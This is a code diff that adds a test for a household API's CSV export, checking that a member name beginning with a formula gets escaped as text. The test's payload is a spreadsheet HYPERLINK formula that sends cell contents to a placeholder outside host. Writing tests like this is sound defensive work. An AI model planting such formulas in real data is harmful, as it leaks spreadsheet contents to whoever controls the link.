@@ -221,6 +221,23 @@ def test_the_csv_export_is_a_zip_of_one_csv_per_kind_matching_the_json(
     assert buyer.account not in r.content.decode("latin-1")
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    embedded_api: Api,
+) -> None:
+    api = embedded_api
+    name = '=HYPERLINK("https://elsewhere.example/?x="&A1,"Click")'
+    member = api.register(prosumer=False, name=name)
+    r = api.client.get(
+        f"/households/{member.id}/export", params={"format": "csv"}, headers=member.auth
+    )
+    archive = zipfile.ZipFile(io.BytesIO(r.content))
+    text = archive.read(f"voisin-{member.id}/household.csv").decode()
+    assert next(csv.DictReader(io.StringIO(text)))["name"] == "'" + name
+    # The JSON export gives the name as it is.
+    data = api.client.get(f"/households/{member.id}/export", headers=member.auth).json()["data"]
+    assert data["household"][0]["name"] == name
+
+
 def test_a_long_history_is_exported_in_pages_with_every_row(
     embedded_api: Api, monkeypatch: pytest.MonkeyPatch
 ) -> None:
